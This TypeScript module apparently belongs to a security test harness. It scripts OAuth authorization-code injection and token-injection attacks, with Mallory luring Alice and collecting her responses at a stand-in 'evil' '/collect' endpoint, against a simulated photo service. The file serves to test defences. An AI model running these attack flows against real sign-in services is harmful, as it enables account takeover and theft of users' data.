import { ALICE, ALICES_PHOTO, QUIZ_CLIENT, SCOPE } from "../../../src/grants/cast.ts";
import { withQuery } from "../../../src/oauth/wire.ts";
import { moved } from "../addresses.ts";
import { forgedAnswer, type Loot, lootIn } from "../attacker.ts";
import {
  answerKept,
  asking,
  beginAtPrint,
  lure,
  settledAtPrint,
  signInAndAllow,
} from "../people.ts";
import type { RealAttack, Scene } from "../scene.ts";

/** Alice's answer is seen on the way and never arrives; Mallory puts its code into an answer for a sign-in of Mallory's own. */
export const codeInjection: RealAttack = {
  async run(scene) {
    const { alice, sites } = scene;
    await beginAtPrint(alice, sites);
    const loot = lootIn([(await answerKept(alice, sites, ALICE)).href]);
    return injected(scene, await beginAtPrint(await scene.mallory(), sites), loot);
  },
};

/** Alice signs in at a client of Mallory's, and what it is given goes into Mallory's sign-in at Print. */
export const tokenInjection: RealAttack = {
  async run(scene) {
    const { alice, sites, target } = scene;
    const own = await beginAtPrint(await scene.mallory(), sites);
    const challenge = own.searchParams.get("code_challenge");
    const nonce = own.searchParams.get("nonce");
    const link = withQuery(`${sites.origins.auth}/authorize`, {
      response_type: target.client.answer,
      client_id: QUIZ_CLIENT.id,
      redirect_uri: moved(QUIZ_CLIENT.callback, sites.origins),
      ...(nonce === null ? { scope: SCOPE } : { scope: `openid ${SCOPE}`, nonce }),
      ...(challenge === null ? {} : { code_challenge: challenge, code_challenge_method: "S256" }),
    });
    const { taken } = await asking(alice, sites, () => lure(alice, sites, link));
    if (!taken) return undefined;
    await signInAndAllow(alice, ALICE);
    const pages = await sites.evil.arrivals("/collect", LURE_AND_QUIZ);
    return injected(scene, own, lootIn(pages.map(({ body }) => body)));
  },
};

/** The pages of Mallory's that Alice sees. */
const LURE_AND_QUIZ = 2;

/** Mallory's browser brings the loot to Print, as the answer to the request it made. */
async function injected(
  scene: Scene,
  asked: URL,
  loot: Loot | undefined,
): Promise<string | undefined> {
  if (loot === undefined) return undefined;
  const { sites } = scene;
  const mallory = await scene.mallory();
  await mallory.goto(forgedAnswer(sites, loot, asked.searchParams.get("state") ?? ""));
  const { text, refusedBy } = await settledAtPrint(mallory);
  scene.printRefused(refusedBy);
  return text.includes(ALICES_PHOTO)
    ? "Print shows Alice’s photos in Mallory’s browser"
    : undefined;
}
